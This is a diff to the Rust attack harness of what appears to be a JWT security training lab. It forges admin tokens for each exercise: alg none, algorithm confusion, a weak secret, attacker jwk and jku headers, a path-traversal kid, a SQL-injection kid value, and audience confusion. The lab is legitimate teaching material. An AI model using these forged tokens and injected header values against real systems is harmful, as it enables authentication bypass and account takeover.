@@ -63,6 +63,8 @@ fn es256(header: &str, claims: &str) -> String {
 }
 
 /// The attack of each exercise, done as a student would; its last exchange.
+/// A forged header keeps the issued token's `"typ":"at+jwt"`, as the page's
+/// forge panel does: the servers take access tokens only.
 fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
     let admin = |w: &mut World, token: String| {
         w.set_token_text(token);
@@ -72,7 +74,7 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
         Weakness::AlgNone => {
             let token = format!(
                 "{}.{}.",
-                b64(r#"{"alg":"none","typ":"JWT"}"#),
+                b64(r#"{"alg":"none","typ":"at+jwt"}"#),
                 b64(&admin_claims(w))
             );
             admin(w, token)
@@ -80,7 +82,7 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
         Weakness::AlgConfusion => {
             let pem = w.issuer().current().unwrap().private.public().to_pem();
             let token = hs256(
-                r#"{"alg":"HS256","typ":"JWT"}"#,
+                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                 &admin_claims(w),
                 pem.as_bytes(),
             );
@@ -88,7 +90,7 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
         }
         Weakness::WeakSecret => {
             let token = hs256(
-                r#"{"alg":"HS256","typ":"JWT"}"#,
+                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                 &admin_claims(w),
                 WEAK_SECRET.as_bytes(),
             );
@@ -97,20 +99,20 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
         Weakness::TrustJwk => {
             let jwk = attacker_public_jwk().to_compact();
             let token = es256(
-                &format!(r#"{{"alg":"ES256","typ":"JWT","jwk":{jwk}}}"#),
+                &format!(r#"{{"alg":"ES256","typ":"at+jwt","jwk":{jwk}}}"#),
                 &admin_claims(w),
             );
             admin(w, token)
         }
         Weakness::TrustJku => {
             let header = format!(
-                r#"{{"alg":"ES256","typ":"JWT","kid":"{ATTACKER_KID}","jku":"{ATTACKER_JWKS_URL}"}}"#
+                r#"{{"alg":"ES256","typ":"at+jwt","kid":"{ATTACKER_KID}","jku":"{ATTACKER_JWKS_URL}"}}"#
             );
             let token = es256(&header, &admin_claims(w));
             admin(w, token)
         }
         Weakness::KidPath => {
-            let header = r#"{"alg":"HS256","typ":"JWT","kid":"../../../../dev/null"}"#;
+            let header = r#"{"alg":"HS256","typ":"at+jwt","kid":"../../../../dev/null"}"#;
             let token = hs256(header, &admin_claims(w), b"");
             admin(w, token)
         }
@@ -130,7 +132,7 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
         }
         Weakness::NoVerify => {
             let token = hs256(
-                r#"{"alg":"HS256","typ":"JWT"}"#,
+                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                 &admin_claims(w),
                 b"anything",
             );
@@ -145,7 +147,8 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
             admin(w, format!("{header}.{claims}.{}", "A".repeat(86)))
         }
         Weakness::KidSql => {
-            let header = r#"{"alg":"HS256","typ":"JWT","kid":"x' UNION SELECT 'attacker-key' --"}"#;
+            let header =
+                r#"{"alg":"HS256","typ":"at+jwt","kid":"x' UNION SELECT 'attacker-key' --"}"#;
             let token = hs256(header, &admin_claims(w), b"attacker-key");
             admin(w, token)
         }
@@ -162,12 +165,18 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
             let number: String = exp.chars().take_while(char::is_ascii_digit).collect();
             let claims = claims.replace(&format!("\"exp\":{number}"), "\"exp\":\"1000000000\"");
             let token = hs256(
-                r#"{"alg":"HS256","typ":"JWT"}"#,
+                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                 &claims,
                 w.secret().as_bytes(),
             );
             w.set_token_text(token);
             w.get("/api/profile")
+        }
+        Weakness::NoAud => {
+            // reports.example's ID token, genuine but made for it, used at the API.
+            w.sign_in_to_reports();
+            let id_token = w.reports_id_token().unwrap();
+            admin(w, id_token)
         }
     }
 }
